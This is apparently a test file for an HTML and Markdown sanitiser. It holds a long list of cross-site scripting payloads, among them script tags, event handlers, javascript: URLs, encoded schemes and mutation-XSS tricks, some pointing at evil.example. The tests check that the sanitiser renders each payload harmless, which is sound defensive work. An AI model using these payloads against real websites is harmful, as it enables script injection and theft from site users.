import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import { GLOBAL, HTML, MATHML, MATHML_ATTRIBUTES } from '../../src/html/tree/allowed.ts'
import { html, render, told } from './render-one.ts'

/** Everything in a document that may not be there, as a browser with scripts on or off reads it; empty when it is safe. */
function unsafe(written: string): string[] {
  return [true, false].flatMap((scriptingEnabled) => faults(parseFragment(written, { scriptingEnabled }).childNodes))
}

function faults(nodes: readonly DefaultTreeAdapterTypes.ChildNode[]): string[] {
  return nodes.flatMap((node) => {
    if (!('tagName' in node)) return node.nodeName === '#text' ? [] : [node.nodeName]
    const isMath = node.namespaceURI.endsWith('MathML')
    const known = isMath ? MATHML.has(node.tagName) : HTML.has(node.tagName) && node.namespaceURI.endsWith('xhtml')
    const allowed = isMath ? [...MATHML_ATTRIBUTES] : [...(HTML.get(node.tagName) ?? []), ...GLOBAL, 'controls']
    const attributes = node.attrs.flatMap(({ name, value }) => {
      if (!allowed.includes(name)) return [`${node.tagName} ${name}`]
      const isAddress = ['href', 'src', 'poster', 'cite'].includes(name)
      const isSafe = name === 'srcset' ? /^https?:\/\/[^,]/.test(value) : !isAddress || ADDRESS.test(value)
      return isSafe ? [] : [`${name}=${value}`]
    })
    return [...(known ? [] : [`<${node.tagName}>`]), ...attributes, ...faults(node.childNodes)]
  })
}

const ADDRESS = /^(?:https?:\/\/[!#-;=?-Z[\]_a-z~]+|(?:mailto|tel):[!#-;=?-Z_a-z~]*)$/

const VECTORS: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script>',
  '<script\0>alert(1)</script>',
  '<<script>alert(1)//<</script>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src="x"onerror="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=javascript:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<img srcset="javascript:alert(1) 1x, x.png 2x">',
  '<img srcset="x.png 1x\n, data:text/html,<script>alert(1)</script> 2x" src=y>',
  '<img data-src="javascript:alert(1)" src="x">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jAvAsCrIpT:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#x0A;script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="//evil.example" target=_blank ping="//evil.example">x</a>',
  '<a href=x style="position:fixed;inset:0">x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text y=9>x</text></a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
  '<math><maction actiontype="statusline#http://x" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<form action="javascript:alert(1)"><input type=submit formaction=javascript:alert(1)></form>',
  '<form><form><button formaction=javascript:alert(1)>x</button></form>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select autofocus onfocus=alert(1)><option><img src=x onerror=alert(1)></select>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<img src=x onerror=alert(1)>"></iframe>',
  '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ&quot;onload=alert(1)" title="&quot;><script>alert(1)</script>">',
  '<object data="javascript:alert(1)"><param name=x value=javascript:alert(1)></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<video src=x onerror=alert(1)><source onerror=alert(1)></video>',
  '<video poster=javascript:alert(1) src=javascript:alert(1) autoplay></video>',
  '<audio src=x onloadstart=alert(1) controls></audio>',
  '<details open ontoggle=alert(1)><summary>x</summary>y</details>',
  '<body onload=alert(1)><p>x',
  '<html onmouseover=alert(1)><frameset onload=alert(1)><frame src=javascript:alert(1)>',
  '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
  '<base href="javascript:alert(1)//"><a href="x">y</a>',
  '<link rel=stylesheet href="javascript:alert(1)"><style>@import "javascript:alert(1)"</style>',
  '<style>*{background:url(javascript:alert(1))}</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--[if gte IE 4]><script>alert(1)</script><![endif]-->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><script>alert(1)</script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><template><div><template><p onclick=x>',
  '<listing>&lt;img src=x onerror=alert(1)&gt;</listing>',
  '<title><img title="</title><img src=x onerror=alert(1)>"></title>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x onclick=alert(1)>y</x>',
  '<p><button><p><table><button><p>x</table>',
  '<a href=a><table><td><a href=b>x</a></table></a>',
  '<table><caption><a><table></table></a></caption></table>',
  '<blockquote cite="javascript:alert(1)">x</blockquote><q cite=" data:x">y</q>',
  '<p id="a b" name=x class="language-js x" is=y slot=z>x</p>',
]

describe('C83: hostile HTML', () => {
  test.each([
    '<script></script>',
    '<p onclick=x>',
    '<a href="javascript:x">',
    '<a href="/x">',
    '<img src="//x">',
    '<svg></svg>',
    '<!--x-->',
    '<form></form>',
    '<p style=x>',
    '<math><mglyph></math>',
    '<img srcset="x.png 1x">',
  ])('the check itself sees %s', (bad) => expect(unsafe(bad)).not.toEqual([]))

  test.each(VECTORS)('%j is harmless, in HTML and in Markdown', (vector) => {
    for (const body of [vector, `<p>${vector}</p>`, `a ${vector} b\n\n${vector}\n`]) {
      for (const form of ['html', 'markdown'] as const) {
        const written = render(body, { form }).html
        expect(unsafe(written)).toEqual([])
        expect(html(written)).toBe(written)
      }
    }
  })

  const piece = fc.oneof(
    fc.constantFrom(...VECTORS),
    fc.constantFrom(
      '<p>',
      '</p>',
      '<table>',
      '<tr>',
      '<td>',
      '<b>',
      '</b>',
      '<i>',
      '<a href="x">',
      '</a>',
      '<svg>',
      '</svg>',
      '<math>',
      '</math>',
      '<mi>',
      '<li>',
      '<ul>',
    ),
    fc.constantFrom(
      '<pre>',
      '\n',
      '</pre>',
      '<h1>',
      '<h2>',
      ']]>',
      '<!--',
      '-->',
      '&#11;',
      '&nbsp;',
      '\ud800',
      '\ufffe',
      '\u0085',
      '"',
      "'",
      '`',
      '```\n',
      '[x](',
      '![](',
      ')',
      '> ',
      '* ',
    ),
    fc.string({ unit: 'binary', maxLength: 20 }),
  )
  const body = fc.array(piece, { maxLength: 12 }).map((pieces) => pieces.join(''))

  test.each(['html', 'markdown', 'text'] as const)('any %s comes out safe, absolute, legal, and at rest', (form) => {
    fc.assert(
      fc.property(body, (text) => {
        const { html: written, summary } = render(text, { form, source: { url: 'x]]>', name: ']]>\u0001' } })
        expect(unsafe(written)).toEqual([])
        expect(html(written)).toBe(written)
        // C76 to C79: no character that XML forbids, no end of a CDATA section, no entity but its five.
        for (const out of [written, summary]) {
          expect(out.isWellFormed()).toBe(true)
          // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
          expect(out).not.toMatch(/[\0-\x08\x0b-\x1f\x7f-\x9f\ufffd-\uffff]/)
        }
        expect(written).not.toContain(']]>')
        expect(written).not.toMatch(/&(?!(?:amp|lt|gt|quot);)/)
        expect(summary.length).toBeLessThanOrEqual(280)
      }),
      { numRuns: 400 },
    )
  })
})

describe('what stays of the author’s HTML', () => {
  test.each([
    [
      '<figure><img src="a.png" alt="A" width="640" height=480 loading=lazy class=x><figcaption>B</figcaption></figure>',
      '<figure><img src="https://example.org/notes/a.png" alt="A" width="640" height="480"><figcaption>B</figcaption></figure>',
    ],
    [
      '<picture><source srcset="a.webp 1x, /b,c.webp 2x" type="image/webp"><img src=a.png></picture>',
      '<picture><source srcset="https://example.org/notes/a.webp 1x, https://example.org/b,c.webp 2x" type="image/webp"><img src="https://example.org/notes/a.png" alt=""></picture>',
    ],
    [
      '<video src=a.mp4 poster=a.png width=100%>x</video>',
      '<video src="https://example.org/notes/a.mp4" poster="https://example.org/notes/a.png" controls="">x</video>',
    ],
    [
      '<audio controls><source src=//c.example/a.mp3 type=audio/mpeg></audio>',
      '<audio controls=""><source src="https://c.example/a.mp3" type="audio/mpeg"></audio>',
    ],
    ['<pre>\n\n  a\n\tb </pre>', '<pre>\n\n  a\n\tb </pre>'],
    ['<pre><span style=x>\n\na</span></pre>', '<pre>\n\n\na</pre>'],
    [
      '<pre><code class="hljs language-ts">a &lt; b</code></pre>',
      '<pre><code class="language-ts">a &lt; b</code></pre>',
    ],
    ['<p dir=rtl lang=he>א</p>', '<p lang="he" dir="rtl">א</p>'],
    ['<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>', '<ruby>漢<rp>(</rp><rt>kan</rt><rp>)</rp></ruby>'],
    [
      'H<sub>2</sub>O <abbr title="x">y</abbr> <kbd>z</kbd> <time datetime=2026>t</time>',
      'H<sub>2</sub>O <abbr title="x">y</abbr> <kbd>z</kbd> <time datetime="2026">t</time>',
    ],
    ['<center><font color=red>a</font></center><strike>b</strike><tt>c</tt>', '<div>a</div><s>b</s><code>c</code>'],
    ['a&nbsp;b&mdash;c &copy; ]]&gt;', 'a\u00a0b—c © ]]&gt;'],
    ['<a name=top></a><a href="#top">up</a>', '<a id="top"></a><a href="https://example.org/notes/a/#top">up</a>'],
    [
      '<ul><li><input type=checkbox checked disabled> a<li><input type="checkbox">b</ul>',
      '<ul><li>☑ a</li><li>☐b</li></ul>',
    ],
    [
      '<span class="katex"><span class="katex-mathml"><math><semantics><mrow><mi>x</mi></mrow><annotation encoding="application/x-tex">x</annotation></semantics></math></span><span class="katex-html" aria-hidden="true"><span>x</span></span></span>',
      '<math><semantics><mrow><mi>x</mi></mrow><annotation encoding="application/x-tex">x</annotation></semantics></math>',
    ],
    [
      '<blockquote class="twitter-tweet"><p lang="en" dir="ltr">Hi</p>&mdash; A (@a) <a href="https://twitter.com/a/status/1">May 1</a></blockquote> <script async src="https://platform.twitter.com/widgets.js"></script>',
      '<blockquote><p lang="en" dir="ltr">Hi</p>— A (@a) <a href="https://twitter.com/a/status/1">May 1</a></blockquote> ',
    ],
    ['<h1>A</h1><h2>B</h2><h6>C</h6>', '<h2>A</h2><h3>B</h3><h6>C</h6>'],
    ['<math><mtext><b>a</b> b</mtext><mi>c</mi></math>', '<math><mtext>a b</mtext><mi>c</mi></math>'],
    ['<object data=a.swf><a href=b>c</a></object>', '<a href="https://example.org/notes/b">c</a>'],
    [
      '<!doctype html><html><head><title>T</title><style>x</style></head><body><main><p>a</p></main></body></html>',
      '<div><p>a</p></div>',
    ],
  ])('%s', (written, expected) => expect(html(written)).toBe(expected))

  test('what asks for JavaScript in place of comments is taken out', () => {
    const plea = '<noscript>Please enable JavaScript to view the <a href="/x">comments</a>.</noscript>'
    expect(html(`<p>One</p>${plea}`)).toBe('<p>One</p>')
  })

  test('images that wait for a script get their real address, once', () => {
    expect(html('<img src="data:image/gif;base64,R0" data-src="a.jpg"><noscript><img src="a.jpg"></noscript>')).toBe(
      '<img src="https://example.org/notes/a.jpg" alt="">',
    )
    expect(html('<img data-original="a.jpg" src="blank.gif">')).toContain('notes/a.jpg')
    expect(html('<img data-lazy-src="a.jpg" data-lazy-srcset="a.jpg 1x">')).toContain(
      'srcset="https://example.org/notes/a.jpg 1x"',
    )
    expect(html('<img srcset="a.jpg 1x, b.jpg 2x">')).toContain('<img src="https://example.org/notes/a.jpg"')
  })

  test('a video player becomes a picture to click, another frame a link', () => {
    expect(html('<iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ" title="A & B"></iframe>')).toBe(
      '<p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"><img src="https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg" ' +
        'alt="Watch on YouTube: A &amp; B" width="480" height="360"></a></p>',
    )
    expect(html('<p>See <iframe src="//player.vimeo.com/video/76979871">x</iframe></p>')).toBe(
      '<p>See <a href="https://vimeo.com/76979871">Watch on Vimeo</a></p>',
    )
    expect(html('<iframe src="https://maps.example/x" title="The way"></iframe>')).toBe(
      '<p><a href="https://maps.example/x">The way</a></p>',
    )
  })

  test('a button that is a link keeps its words', () => {
    const buttons = '<a href="/x"><button>Get <b>it</b></button></a> <button><a href="/y">Or that</a></button>'
    expect(html(`<p>${buttons}</p>`)).toBe(
      '<p><a href="https://example.org/x">Get <b>it</b></a> <a href="https://example.org/y">Or that</a></p>',
    )
  })

  test('what was taken out is told once, with its place', () => {
    const rendering = render('<p>a</p>\n<img src="">\n<form><button>x</button></form><button>y</button>', {
      form: 'html',
    })
    expect(told(rendering)).toEqual([
      '6:1 image: one without an address was left out',
      '7:7 <button>: taken out with what is in it, readers would not show it',
    ])
    expect(
      rendering.problems.every(
        ({ severity, file, fix }) => severity === 'warning' && file === 'notes/a.md' && fix !== '',
      ),
    ).toBe(true)
  })

  test('the title is not said twice', () => {
    const body = (text: string, title: string, titleInBody: boolean) =>
      render(text, { form: 'html', title, titleInBody }).html
    expect(body('<h1>My <i>title</i></h1><p>a</p>', 'My title', true)).toBe('<p>a</p>')
    expect(body('<p>a</p><h2>My title</h2>', 'My title', true)).toBe('<p>a</p>')
    expect(body('<h1>My title</h1><p>a</p>', 'My title', false)).toBe('<p>a</p>')
    expect(body('<h1>Part one</h1><p>a</p>', 'My title', false)).toBe('<h2>Part one</h2><p>a</p>')
  })
})

test('a paragraph of nothing but a comment, or of a picture that nobody can load, is left out; one that is seen stays', () => {
  expect(render('One.\n\n![a](javascript:b)\n\n<p><!-- c --></p>\n\nTwo.').html).toBe('<p>One.</p>\n<p>Two.</p>\n')
  expect(html('<p></p><p>&nbsp;</p><p><br></p><p id="a"></p>')).toBe('<p>\u00a0</p><p><br></p><p id="a"></p>')
})
